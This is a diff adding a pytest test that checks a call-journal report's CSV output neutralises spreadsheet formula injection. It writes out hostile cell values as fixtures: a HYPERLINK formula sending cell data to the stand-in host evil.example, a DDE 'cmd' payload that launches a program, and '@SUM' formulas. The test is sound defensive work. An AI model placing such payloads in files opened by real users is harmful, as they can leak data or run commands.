@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 from datetime import datetime, timedelta, timezone
@@ -179,3 +181,19 @@ def test_every_format_ends_with_one_newline(journal: Journal, fmt: str) -> None:
     """A report printed in a terminal leaves the shell prompt on a line of its own."""
     out = render(build_report(journal), fmt)
     assert out.endswith("\n") and not out.endswith("\n\n")
+
+
+def test_csv_cells_are_no_spreadsheet_formulas(tmp_path: Path) -> None:
+    journal = Journal.in_dir(tmp_path)
+    label = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
+    forms = [
+        form("participant-join", 1, who=label, friendly_name="@SUM(A1:A9)"),
+        form("participant-join", 2, who="+cmd|' /C calc'!A0", friendly_name="@SUM(A1:A9)"),
+        form("conference-start", 3, friendly_name="@SUM(A1:A9)"),
+    ]
+    journal.append_callbacks([(NOW, f, parse_callback(f, NOW)) for f in forms])
+    rows = list(csv.reader(io.StringIO(render(build_report(journal), "csv"))))
+    journal.close()
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + label in cells and "'@SUM(A1:A9)" in cells and "'+cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
